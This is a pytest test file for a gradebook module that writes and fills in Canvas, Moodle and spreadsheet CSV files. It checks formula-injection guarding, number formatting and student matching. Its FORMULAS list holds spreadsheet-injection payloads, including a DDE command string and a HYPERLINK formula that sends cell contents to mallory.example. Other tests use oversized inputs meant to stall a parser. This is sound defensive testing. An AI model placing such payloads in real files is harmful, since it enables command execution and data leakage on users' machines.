"""Scores as files: what a spreadsheet, Canvas and Moodle read from them, and what stays of a file that is filled in."""

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import replace
from itertools import count, islice
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.gradebooks import (
    MAX_COLUMNS,
    MAX_LINES,
    Cell,
    Column,
    Filled,
    Line,
    NotAGradebook,
    canvas,
    fill_canvas,
    guarded,
    moodle,
    number_text,
    spreadsheet,
)

LEAST_SQUARES = Column("Least squares", 10)
SIGMOID = Column("Sigmoid", 5)
ALICE = Line("Alice Liddell", "alice@uni.example", "s-alice", "Group A", (7.5,), (False,))
BOB = Line('Bob "Bo" Baker', "bob@uni.example", "s-bob", "Group A", (10.0,), (False,))
MALLORY = Line("Mallory", "mallory@elsewhere.example", None, None, (1.0,), (False,))
NOBODY = Line("Carol's other student", "", None, None, (1.0,), (False,))


def scored(line: Line, *points: float | None) -> Line:
    return replace(line, points=points, excused=(False,) * len(points))


def excused(line: Line) -> Line:
    return replace(line, points=(None,), excused=(True,))


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    """What a reader of CSV finds behind the byte order mark."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter, strict=True))


def written(chunks: Iterable[str]) -> list[list[str]]:
    return read("".join(chunks))


# Formulas and numbers -----------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    "+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://mallory.example/?" & A1, "click")',
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "\rplain",
    " =1",
    "   \t +1",
    "\xa0=1",
    "\u3000@x",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "\x1b=1",
    "＝1",
    "＋1",
    "－1",
    " ＠x",
]
HARMLESS = [
    "",
    "alice",
    "a=b",
    "3-2",
    "it's",
    "1",
    "Liddell, Alice",
    "(a)",
    "é=",
    "'=1",
    '"=1"',
    "  indented",
    "-4",
    "-0.5",
    "-1e-05",
]


def calculates(cell: str) -> bool:
    """Whether a spreadsheet could take a cell for a formula, however it normalizes: a number is none."""
    seen = [c for c in unicodedata.normalize("NFKC", cell) if unicodedata.category(c)[0] not in "ZC"]
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?(e-?[0-9]+)?", cell) is None and bool(seen) and seen[0] in "=+-@"


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_text_that_would_be_calculated_gets_an_apostrophe(text: str):
    assert guarded(text) == "'" + text
    assert written(spreadsheet([[text, text]])) == [["'" + text] * 2]


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_any_other_text_stays_as_it_is(text: str):
    assert guarded(text) == text
    assert written(spreadsheet([[text, "x"]])) == [[text, "x"]]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_name_title_or_id_becomes_a_formula_in_any_file(text: str):
    mallory = Line(text, text, text, text, (-1.0,), (False,))
    column = Column(text, 10)
    filled = fill_canvas(EXPORT.encode(), column, [scored(ALICE, 1.0)]).content.decode()
    files = ["".join(canvas([column], [mallory])), "".join(moodle([column], [mallory])), filled]
    for file in files:
        assert [cell for row in read(file) for cell in row if calculates(cell)] == []
        assert text in "".join(map("".join, read(file)))


NUMBERS = [
    (7, "7"),
    (7.0, "7"),
    (0.1 + 0.2, "0.3"),
    (2 / 3, "0.666667"),
    (-1.5, "-1.5"),
    (-0.0, "0"),
    (-1e-9, "0"),
    (1e-6, "0.000001"),
    (1.5e-5, "0.000015"),
    (1e22, "10000000000000000000000"),
    (123456789012.1, "123456789012.1"),
    (100.0, "100"),
    (10**20, "100000000000000000000"),
]


@pytest.mark.parametrize(("number", "text"), NUMBERS)
def test_a_number_is_written_short_and_without_an_exponent(number: float, text: str):
    assert number_text(number) == text
    assert written(spreadsheet([[number, number]])) == [[text, text]]


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_any_number_reads_back_rounded_to_six_decimals(number: float):
    text = number_text(number)
    assert float(text) == round(number, 6)
    assert re.fullmatch(r"-?(0|[1-9][0-9]*)(\.[0-9]{0,5}[1-9])?", text)


@pytest.mark.parametrize("number", [float("nan"), float("inf"), float("-inf")])
def test_a_number_that_is_not_finite_is_refused(number: float):
    with pytest.raises(ValueError, match="not finite"):
        number_text(number)


# Spreadsheets -------------------------------------------------------------------------------------


def test_a_spreadsheet_is_utf_8_with_a_mark_and_lines_that_end_as_rfc_4180_has_it():
    text = "".join(spreadsheet([["name", "points", "late"], ["Zoë", 7.5, True], [None, 2, False]]))
    assert text == "\ufeffname,points,late\r\nZoë,7.5,yes\r\n,2,no\r\n"


def test_a_text_with_line_breaks_quotes_and_separators_stays_one_cell():
    text = 'a "quoted" word,\r\nanother line; and\ta tab\n=1'
    assert written(spreadsheet([[text, 1]])) == [[text, "1"]]


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_text_cannot_leave_its_cell_where_a_spreadsheet_separates_otherwise(separator: str):
    text = f"x{separator}=1+1"
    assert "".join(spreadsheet([[text]])) == f'\ufeff"{text}"\r\n'


def test_a_spreadsheet_is_written_while_its_rows_come():
    rows = ([number, "x"] for number in count())
    assert list(islice(spreadsheet(rows), 3)) == ["\ufeff", "0,x\r\n", "1,x\r\n"]


def test_a_file_without_rows_is_empty_but_for_its_mark():
    assert "".join(spreadsheet([])) == "\ufeff"


TEXTS = st.text(st.one_of(st.sampled_from("\",;\t\r\n=+-@' ax"), st.characters(codec="utf-8")), max_size=12)
CELLS = st.one_of(TEXTS, st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False, allow_infinity=False))


def as_read(cell: Cell) -> str:
    match cell:
        case None:
            return ""
        case bool():
            return "yes" if cell else "no"
        case str():
            return guarded(cell)
        case _:
            return number_text(cell)


@given(st.lists(st.lists(CELLS, min_size=2, max_size=5), max_size=5))
def test_any_rows_read_back_as_they_were_but_for_the_guard(rows: list[list[Cell]]):
    assert written(spreadsheet(rows)) == [[as_read(cell) for cell in row] for row in rows]


# Files for Canvas and Moodle ----------------------------------------------------------------------


def test_a_file_for_canvas_has_its_header_the_full_points_and_a_row_for_each_student():
    columns = [LEAST_SQUARES, SIGMOID]
    bob = replace(BOB, points=(None, 5.0), excused=(False, True), group=None)
    assert written(canvas(columns, [scored(ALICE, 7.5, 0.0), bob])) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Least squares", "Sigmoid"],
        ["Points Possible", "", "", "", "", "10", "5"],
        ["Alice Liddell", "", "s-alice", "alice@uni.example", "Group A", "7.5", "0"],
        ['Bob "Bo" Baker', "", "s-bob", "bob@uni.example", "", "", "EX"],
    ]


def test_a_student_cannot_set_the_full_points_in_canvas_by_name():
    mallory = replace(scored(MALLORY, 0.0), name="Mallory Points Possible")
    rows = written(canvas([LEAST_SQUARES], [mallory]))
    assert [row[0] for row in rows if "Points Possible" in row[0]] == ["Points Possible"]
    assert rows[2][0].replace("\xa0", " ") == mallory.name


def test_two_columns_of_one_title_are_refused_before_anything_is_written():
    with pytest.raises(ValueError, match="same title"):
        canvas([LEAST_SQUARES, Column("Least squares", 3)], [])


def test_a_file_for_moodle_has_percentages():
    columns = [LEAST_SQUARES, SIGMOID]
    bob = replace(BOB, points=(None, 5.0), excused=(False, True))
    assert written(moodle(columns, [scored(ALICE, 7.5, 1 / 3), bob, scored(MALLORY, 0.0, 5.0)])) == [
        ["First name", "Last name", "ID number", "Email address", "Least squares", "Sigmoid"],
        ["Alice", "Liddell", "s-alice", "alice@uni.example", "75", "6.666667"],
        ['Bob "Bo"', "Baker", "s-bob", "bob@uni.example", "", ""],
        ["Mallory", "", "", "mallory@elsewhere.example", "0", "100"],
    ]
    assert written(moodle([], [replace(scored(ALICE), name=" Alice  Pleasance  Liddell ")]))[1][:2] == [
        "Alice  Pleasance",
        "Liddell",
    ]


@pytest.mark.parametrize(("points", "percent"), [(11.0, "100"), (-1.0, "0"), (10.0000001, "100")])
def test_no_percentage_leaves_what_moodle_accepts(points: float, percent: str):
    assert written(moodle([LEAST_SQUARES], [scored(ALICE, points)]))[1][-1] == percent


@pytest.mark.parametrize("write", [canvas, moodle])
def test_a_line_with_a_score_too_many_or_too_few_is_refused(write: Any):
    for points in ((), (1.0, 2.0)):
        with pytest.raises(ValueError, match="zip"):
            list(write([LEAST_SQUARES], [scored(ALICE, *points)]))


@pytest.mark.parametrize("points", [0, -1, float("nan"), float("inf")])
def test_a_column_needs_full_points(points: float):
    with pytest.raises(ValueError, match="above 0"):
        Column("Least squares", points)


@pytest.mark.parametrize("write", [canvas, moodle])
def test_a_gradebook_is_written_while_its_students_come(write: Any):
    students: Iterator[Line] = (ALICE for _ in count())
    assert len(list(islice(write([LEAST_SQUARES], students), 100))) == 100


# A file exported from Canvas ----------------------------------------------------------------------

EXPORT = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Notes,Least squares (4711),Sigmoid (4712),"
    "Homework Current Score,Homework Unposted Final Score,Current Score,Final Score\r\n"
    ",,,,,,,Manual Posting,,,,\r\n"
    "    Points Possible,,,,,,10.00,20.00,(read only),(read only),(read only),(read only)\r\n"
    '"Liddell, Alice",101,s-alice,alice@uni.example,"Group A, Group B",,,4.00,80.00,80.00,80.00,80.00\r\n'
    '"Baker, Bob ""Bo""",102,s-bob,BOB@uni.example,Group A,"late\nenrolment",7.00,N/A,"70.00",70.00,70.00,70.00\r\n'
    '"Student, Test",199,,0123abc,Group A,,,,,,,\r\n'
)


def filled(export: str, column: Column, *lines: Line, delimiter: str = ",") -> tuple[Filled, list[list[str]]]:
    done = fill_canvas(export.encode(), column, lines)
    return done, read(done.content.decode(), delimiter)


def test_scores_go_into_the_column_of_the_title_and_nothing_else_changes():
    done, _ = filled(EXPORT, LEAST_SQUARES, ALICE, BOB)
    expected = EXPORT.replace('"Group A, Group B",,,', '"Group A, Group B",,7.5,').replace(",7.00,", ",10,")
    assert done == Filled(expected.encode(), matched=2, unmatched=())


def test_scores_are_scaled_to_the_points_of_the_file():
    done, rows = filled(EXPORT, SIGMOID, scored(ALICE, 2.5), scored(BOB, 1 / 3))
    assert [row[7] for row in rows] == ["Sigmoid (4712)", "Manual Posting", "20.00", "10", "1.333333", ""]
    assert done.matched == 2


def test_an_excused_student_is_marked_and_one_without_a_score_keeps_what_is_there():
    done, rows = filled(EXPORT, LEAST_SQUARES, excused(ALICE), scored(BOB, None))
    assert [row[6] for row in rows[3:5]] == ["EX", "7.00"]
    assert (done.matched, done.unmatched) == (1, ())


def test_students_with_a_score_who_are_not_in_the_file_are_named():
    eve, dave = replace(MALLORY, name="Eve", email="eve@x"), scored(replace(NOBODY, name="Dave"), None)
    done, _ = filled(EXPORT, LEAST_SQUARES, MALLORY, eve, NOBODY, ALICE, dave)
    assert (done.matched, done.unmatched) == (1, ("Carol's other student", "eve@x", "mallory@elsewhere.example"))


def test_a_file_without_the_column_gets_one_behind_the_last_assignment():
    done, rows = filled(EXPORT, Column("Backpropagation, part 1", 12.5), ALICE, MALLORY)
    assert [row[8] for row in rows] == ["Backpropagation, part 1", "", "12.5", "7.5", "", ""]
    assert [row[:8] + row[9:] for row in rows] == read(EXPORT)
    assert (done.matched, done.unmatched) == (1, ("mallory@elsewhere.example",))
    assert b'"late\nenrolment",7.00,N/A,,"70.00"' in done.content


TOTALS = """Current Score, Final Points, Unposted Final Grade, Homework Current Points, Final Score (Fall),
Override Score, Override Grade, Override Status (Fall)"""


@pytest.mark.parametrize("total", [*TOTALS.replace("\n", " ").split(", "), ""])
def test_totals_and_columns_without_a_title_are_no_assignments(total: str):
    export = f"Student,ID,Section,Quiz (1),{total},{total}\nPoints Possible,,,10\nAlice Liddell,1,A,1,2,3\n"
    _, rows = filled(export, LEAST_SQUARES, ALICE)
    assert [row[4] for row in rows] == ["Least squares", "10", "7.5"]


def test_a_file_without_totals_gets_the_column_at_its_end():
    export = "Student,ID,SIS Login ID,Section\nPoints Possible,,,\nAlice,1,alice@uni.example,A\n\nBob,2,bob,A"
    done, _ = filled(export, LEAST_SQUARES, ALICE)
    assert done.content.decode() == (
        "Student,ID,SIS Login ID,Section,Least squares\nPoints Possible,,,,10\n"
        "Alice,1,alice@uni.example,A,7.5\n\nBob,2,bob,A,"
    )


def test_filling_in_twice_changes_nothing():
    for column in (LEAST_SQUARES, SIGMOID, Column("Something new", 3), Column("=1+1", 3), Column("  Two\nlines ", 3)):
        once = fill_canvas(EXPORT.encode(), column, [ALICE, BOB])
        assert fill_canvas(once.content, column, [ALICE, BOB]) == once


def test_semicolons_bring_decimal_commas():
    export = (
        "\ufeffStudent;ID;SIS Login ID;Section;Least squares (4711);Current Score\r\n"
        "    Points Possible;;;;20,00;(read only)\r\n"
        "Liddell, Alice;101;alice@uni.example;A;3,50;17,50\r\n"
    )
    done, _ = filled(export, LEAST_SQUARES, scored(ALICE, 7.25))
    assert done.content.decode() == export.replace("3,50", "14,5")
    done, rows = filled(export, Column("New", 2.5), scored(ALICE, 1.25), delimiter=";")
    assert [row[5] for row in rows] == ["New", "2,5", "1,25"]


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=ascii)
@pytest.mark.parametrize("ending", ["\r\n", "\n", "\r"], ids=ascii)
@pytest.mark.parametrize("mark", ["", "\ufeff"], ids=ascii)
@pytest.mark.parametrize("quote", ["", '"'], ids=ascii)
def test_mark_separator_line_ends_and_quotes_stay(separator: str, ending: str, mark: str, quote: str):
    rows = [["Student", "ID", "Section", "Least squares (1)"], [" Points Possible ", "", "", "10"]]
    rows += [["Alice Liddell", "1", "A, B" if quote else "A", ""], ["Bob", "2", "A", "3"]]
    export = mark + ending.join(separator.join(quote + cell + quote for cell in row) for row in rows)
    done, _ = filled(export, LEAST_SQUARES, scored(ALICE, 8.0), delimiter=separator)
    before, _, after = export.rpartition(quote * 2 + ending + quote + "Bob")
    assert done.content.decode() == before + "8" + ending + quote + "Bob" + after


def test_a_cell_may_have_blanks_around_it_and_a_quotation_mark_within():
    export = 'Student , ID,Section ,  Least squares  (4711) \nPoints Possible,,,10\n Alice "Al" Liddell ,1,A,\n'
    done, _ = filled(export, LEAST_SQUARES, replace(ALICE, name='Alice "Al" Liddell'))
    assert done.content.decode() == export[:-1] + "7.5\n"


def test_a_row_that_ends_early_is_filled_up_only_where_a_score_goes():
    export = "Student,ID,Section,One (1),Least squares (2)\nPoints Possible,,,1,10\nAlice Liddell,1\nBob,2\n"
    done, _ = filled(export, LEAST_SQUARES, ALICE)
    assert done.content.decode() == export.replace("Liddell,1", "Liddell,1,,,7.5")
    export = "Student,ID,Section,One (1)\nPoints Possible\nAlice Liddell,1\n\nBob,2,A\n"
    done, _ = filled(export, LEAST_SQUARES, ALICE)
    assert done.content.decode() == (
        "Student,ID,Section,One (1),Least squares\nPoints Possible,,,,10\nAlice Liddell,1,,,7.5\n\nBob,2,A\n"
    )


# Who is who ---------------------------------------------------------------------------------------

HEADER = "Student,ID,SIS User ID,SIS Login ID,Section,Least squares (4711)\nPoints Possible,,,,,10\n"


def scores(rows: Sequence[str], *lines: Line, header: str = HEADER) -> list[str]:
    """What the last column says in these rows once it is filled in."""
    done, table = filled(header + "\n".join(rows), LEAST_SQUARES, *lines)
    assert done.matched == sum(row[-1] != "" for row in table[2:])
    return [row[-1] for row in table[2:]]


@pytest.mark.parametrize(
    "row",
    [
        "X,1,s-alice,x,A,",  # SIS User ID
        "X,1,S-Alice ,x,A,",
        "X,1,x, ALICE@Uni.Example,A,",  # SIS Login ID is the e-mail address,
        "X,1,x,s-alice,A,",  # or the id
        "X,s-alice,x,x,A,",  # ID
        "Alice Liddell,1,x,x,A,",  # name
        '"Liddell, Alice",1,,,A,',
        " Alice  Liddell ,1,,,A,",
    ],
)
def test_a_student_is_found_by_any_id_or_by_name(row: str):
    assert scores([row, "Bob,2,s-b,bob,A,"], ALICE) == ["7.5", ""]
    assert scores([row, "Bob,2,s-b,bob,A,"], replace(ALICE, external_id=" s-Alice ", email=f" {ALICE.email}")) == [
        "7.5",
        "",
    ]


def test_a_name_may_have_quotation_marks():
    assert scores(['"Baker, Bob ""Bo""",1,,,A,'], BOB) == ["10"]


def test_a_better_key_decides():
    rows = ["Alice Liddell,1,,,A,", "X,2,,alice@uni.example,A,", "X,3,s-alice,,A,", "X,s-alice,,,A,"]
    assert scores(rows, ALICE) == ["", "", "7.5", ""]
    assert scores(rows[:2], ALICE) == ["", "7.5"]


def test_each_gets_the_score_of_their_own_even_where_names_are_swapped():
    rows = ['"Liddell, Alice",1,s-bob,,A,', '"Baker, Bob ""Bo""",2,s-alice,,A,']
    assert scores(rows, ALICE, BOB) == ["10", "7.5"]
    assert scores(rows[1:], ALICE, BOB) == ["7.5"]
    assert scores(rows[:1], ALICE, BOB) == ["10"]


def test_a_name_that_two_people_have_is_not_enough():
    twins = [replace(ALICE, email="a@x", external_id=None), replace(ALICE, email="b@x", external_id=None)]
    assert scores(["Alice Liddell,1,,,A,"], *twins) == [""]
    assert scores(["Alice Liddell,1,,,A,", "Alice Liddell,2,,,A,"], twins[0]) == ["", ""]
    assert scores(["Alice Liddell,1,,,A,", "Alice Liddell,2,,b@x,A,"], *twins) == ["", "7.5"]


def test_an_id_that_two_people_have_is_not_enough():
    assert scores(["X,1,s-alice,,A,", "Y,2,s-alice,,A,"], ALICE) == ["", ""]
    assert scores(["X,1,s-alice,,A,"], ALICE, replace(MALLORY, external_id="s-alice")) == [""]


def test_blank_ids_and_names_are_nobody():
    blank = Line("", "", "", None, (1.0,), (False,))
    assert scores([",1,,,A,", ",,,,,"], blank, replace(blank, external_id=None)) == ["", ""]


def test_the_test_student_of_canvas_is_left_alone():
    line = replace(ALICE, name="Test Student", external_id="199")
    assert scores(['"Student, Test",199,,,A,'], line) == [""]


def test_first_and_last_names_may_have_columns_of_their_own():
    header = "LastName,FirstName,ID,SIS User ID,SIS Login ID,Section,Least squares (1)\n Points Possible,,,,,,10\n"
    assert scores(["Liddell,Alice,1,,,A,", "Baker,Alice,2,,,A,"], ALICE, header=header) == ["7.5", ""]
    assert scores(["Student,Test,1,s-alice,,A,"], ALICE, header=header) == [""]


def test_further_columns_about_students_do_not_disturb():
    header = (
        "LastName,FirstName,ID,SIS  User  ID,SIS Login ID,Integration ID,Root Account,Section,Least squares (1)\n"
        "Points Possible,,,,,,,,10\n"
    )
    assert scores(["X,Y,1,s-alice,,s-bob,uni.example,A,"], ALICE, BOB, header=header) == ["7.5"]


def test_a_student_whose_name_says_points_possible_sets_no_points():
    rows = ["Points Possible,7,s-bob,,A,", "Alice Liddell,8,s-alice,,A,"]
    assert scores(rows, ALICE, BOB) == ["10", "7.5"]


def test_header_and_points_are_no_students():
    lines = [replace(ALICE, external_id=None, name=name) for name in ("Student", "Points Possible")]
    done, _ = filled(EXPORT, LEAST_SQUARES, *lines, replace(BOB, external_id="SIS User ID", email="ID"))
    assert done.matched == 1  # Bob, by name
    assert done.content.decode() == EXPORT.replace(",7.00,", ",10,")


def test_a_file_can_be_filled_in_without_any_lines():
    assert fill_canvas(EXPORT.encode(), LEAST_SQUARES, []) == Filled(EXPORT.encode(), 0, ())


# Points and columns -------------------------------------------------------------------------------


@pytest.mark.parametrize(("points", "score"), [("", "7.5"), ("10", "7.5"), ("10,0", "7.5"), ("5.00", "3.75")])
def test_points_possible_are_read_with_point_or_comma(points: str, score: str):
    export = f'Student,ID,Section,Least squares (1)\nPoints Possible,,,"{points}"\nAlice Liddell,1,A,\n'
    assert filled(export, LEAST_SQUARES, ALICE)[1][-1][-1] == score


@pytest.mark.parametrize("points", ["(read only)", "Read  Only", "0", "0.00", "ten", "1e3", "-5", "٣"])
def test_a_column_that_takes_no_points_is_refused_with_its_line(points: str):
    export = f"Student,ID,Section,Least squares (1)\n,,,Manual Posting\nPoints Possible,,,{points}\nAlice,1,A,\n"
    with pytest.raises(NotAGradebook, match=r"^Line 3 gives this column no points, or marks it read only"):
        fill_canvas(export.encode(), LEAST_SQUARES, [ALICE])


@pytest.mark.parametrize("title", ["Least squares", "Least squares (4711)", " Least squares(1) "])
def test_the_number_canvas_gives_an_assignment_is_not_part_of_its_title(title: str):
    export = f"Student,ID,Section,{title},Least squares 2 (5)\nPoints Possible,,,10,10\nAlice Liddell,1,A,,\n"
    assert filled(export, LEAST_SQUARES, ALICE)[1][-1][3:] == ["7.5", ""]


def test_a_title_may_end_in_a_number_of_its_own():
    export = "Student,ID,Section,Quiz (1) (77),Quiz (2) (78)\nPoints Possible,,,10,10\nAlice Liddell,1,A,,\n"
    assert filled(export, Column("Quiz (2)", 10), ALICE)[1][-1][3:] == ["", "7.5"]
    assert filled(export.replace(" (78)", ""), Column("Quiz (2)", 10), ALICE)[1][-1][3:] == ["", "7.5"]


@pytest.mark.parametrize("title", ["=1+1", "'=1+1", "=1+1 (5)"])
def test_a_title_that_would_be_calculated_is_known_with_and_without_its_guard(title: str):
    export = f"Student,ID,Section,{title}\nPoints Possible,,,10\nAlice Liddell,1,A,\n"
    assert filled(export, Column("=1+1", 10), ALICE)[0].content.decode() == export[:-1] + "7.5\n"


def test_a_column_about_the_student_is_never_filled():
    done, rows = filled(EXPORT, Column("SIS Login ID", 10), ALICE)
    assert [row[3] for row in rows] == [row[3] for row in read(EXPORT)]
    assert rows[3][8] == "7.5"
    assert done.matched == 1


@pytest.mark.parametrize("points", [(), (1.0, 2.0)])
def test_a_line_has_exactly_the_score_of_the_column(points: tuple[float, ...]):
    with pytest.raises(ValueError, match="unpack"):
        fill_canvas(EXPORT.encode(), LEAST_SQUARES, [scored(ALICE, *points)])


# What is no gradebook -----------------------------------------------------------------------------

SECRET = "qzx"
POINTS_ROW = "Points Possible,,,\n"
START = "Student,ID,Section,Quiz\n" + POINTS_ROW

NO_GRADEBOOKS = [
    ("", "Line 1 should begin with Student"),
    ("\ufeff", "Line 1 should begin with Student"),
    (f"{SECRET}", "Line 1 should begin with Student"),
    (f"name,email,{SECRET},d,e\n", "Line 1 should begin with Student"),
    ("Student,ID,Section\n", "Line 1 should begin with Student"),
    ("Student,Email,Section,Quiz\n", "Line 1 should begin with Student"),
    ("ID,Student,Section,Quiz\n", "Line 1 should begin with Student"),
    ("Student,ID,Quiz,Other\n", "Line 1 should begin with Student"),
    ("Student,ID,a,b,c,d,e,f,Section,Quiz\n", "Line 1 should begin with Student"),
    ("LastName,Name,ID,Section,Quiz\n", "Line 1 should begin with Student"),
    ("LastName,FirstName,Section,ID,Quiz\n", "Line 1 should begin with Student"),
    ("Student|ID|Section|Quiz\n", "Line 1 should begin with Student"),
    ("sep=;\nStudent;ID;Section;Quiz\n", "Line 1 should begin with Student"),
    (f"Student,ID,Section,Quiz\n{SECRET},1,A,3\n", 'Line 2 or 3 should begin with "Points Possible"'),
    (f"Student,ID,Section,Quiz\n{SECRET} Points Possible,1,A,3\n", 'Line 2 or 3 should begin with "Points Possible"'),
    (f"{START}{SECRET},1,A,1,2\n", "Line 3 has 5 cells, more than the 4"),
    (f'{START}"{SECRET}\n\n",1,A,1\n{SECRET},1,A,1,2,3\n', "Line 6 has 6 cells, more than the 4"),
    (f'{START}A,1,A,1\n"{SECRET},1,A,1\n', "Line 4 begins a row in which a quotation mark"),
    (f'{START}"A" {SECRET},1,A,1\n', "Line 3 begins a row in which a quotation mark"),
    (f"{START}A,1,A,{SECRET}\x00\n", "Line 3 is not text in UTF-8"),
    (f"Student,ID,Section,New,New (3)\n{POINTS_ROW}", "Line 1 has this title more than once"),
    ("Student,ID,Section" + "," * MAX_COLUMNS + "\n", f"Line 1 has {MAX_COLUMNS + 3} cells, more than the"),
    (START + "\n" * MAX_LINES, f"Line {MAX_LINES + 1} is one too many"),
]


@pytest.mark.parametrize(("export", "words"), NO_GRADEBOOKS, ids=lambda value: ascii(value)[:50])
def test_what_is_no_gradebook_is_refused_with_line_and_remedy(export: str, words: str):
    with pytest.raises(NotAGradebook) as refused:
        fill_canvas(export.encode(), Column("New", 10), [ALICE])
    message = str(refused.value)
    assert message.startswith(words)
    assert "export" in message.lower()
    assert SECRET not in message


@pytest.mark.parametrize("encoding", ["latin-1", "utf-16", "utf-16-le"])
def test_another_encoding_is_refused_with_its_line(encoding: str):
    export = f"{START}Zoë,1,A,1\n".encode(encoding)
    with pytest.raises(NotAGradebook, match=r"^Line [13] is not text in UTF-8\. In Canvas choose"):
        fill_canvas(export, LEAST_SQUARES, [ALICE])


def test_a_file_that_wants_to_keep_us_busy_is_read_in_one_go():
    many = 300_000
    for hostile in ('"' * (many + 1), '"' + '""' * many, "Student" * many, " " * many, '"Student' + "\n" * many):
        with pytest.raises(NotAGradebook):
            fill_canvas(hostile.encode(), LEAST_SQUARES, [ALICE])
    for title in (f"a{' ' * many}b", "(1" * many, "(" + "1" * many, "Current " * many):
        done = fill_canvas(f"Student,ID,Section,{title}\n{POINTS_ROW}".encode(), LEAST_SQUARES, [ALICE])
        assert done.matched == 0
    cell = "x" * many  # more than the reader of the standard library takes
    assert fill_canvas(f"{START}{cell},1,A,\n".encode(), Column("Quiz", 1), []).content.endswith(b"x,1,A,\n")


# Any file -----------------------------------------------------------------------------------------

DIALECTS = st.sampled_from(
    [
        {"delimiter": delimiter, "lineterminator": ending, "quoting": quoting}
        for delimiter in ",;\t"
        for ending, quoting in (("\r\n", csv.QUOTE_MINIMAL), ("\r\n", csv.QUOTE_ALL), ("\n", csv.QUOTE_ALL))
    ]
)
FREE = TEXTS.filter(lambda text: "\0" not in text)
STUDENTS = st.lists(st.sampled_from(["s-alice", "s-bob", "s-carol", ""]), min_size=1, max_size=4)


@given(st.data(), DIALECTS, STUDENTS, st.booleans(), st.booleans())
def test_every_other_cell_of_any_file_stays(data: Any, dialect: Any, ids: list[str], mark: bool, present: bool):
    title = "Least squares (4711)" if present else "Another (4711)"
    table = [["Student", "ID", "SIS User ID", "Section", title, "Notes (4712)", "Final Score"]]
    table += [["Points Possible", "", "", "", "10", "", "(read only)"]]
    table += [[data.draw(FREE), "7", k, *data.draw(st.lists(FREE, min_size=4, max_size=4))] for k in ids]
    sheet = io.StringIO(newline="")
    csv.writer(sheet, **dialect).writerows(table)
    export = "\ufeff" * mark + sheet.getvalue()
    done, after = filled(export, LEAST_SQUARES, ALICE, BOB, delimiter=dialect["delimiter"])

    place = 4 if present else 6
    others = [row[:place] + row[place + 1 :] for row in after]
    assert others == ([row[:place] + row[place + 1 :] for row in table] if present else table)
    point = "," if dialect["delimiter"] == ";" else "."
    scores = {k: score for k, score in (("s-alice", f"7{point}5"), ("s-bob", "10")) if ids.count(k) == 1}
    kept = [row[place] if present else "" for row in table[2:]]
    assert [row[place] for row in after[2:]] == [scores.get(k, old) for k, old in zip(ids, kept, strict=True)]
    assert (done.matched, len(done.unmatched)) == (len(scores), 2 - len(scores))
    assert done.content.startswith("\ufeff".encode()) == mark
    assert fill_canvas(done.content, LEAST_SQUARES, [ALICE, BOB]) == done
    assert fill_canvas(export.encode(), Column("Notes", 10), []).content == export.encode()


@given(st.one_of(st.binary(max_size=200), TEXTS.map(lambda text: (START + text).encode("utf-8"))))
def test_anything_is_filled_in_or_refused(export: bytes):
    try:
        done = fill_canvas(export, Column("Quiz", 10), [scored(ALICE, None)])
    except NotAGradebook as refused:
        assert re.match(r"Line [0-9]+ ", str(refused))
    else:
        assert done == Filled(export, 0, ())
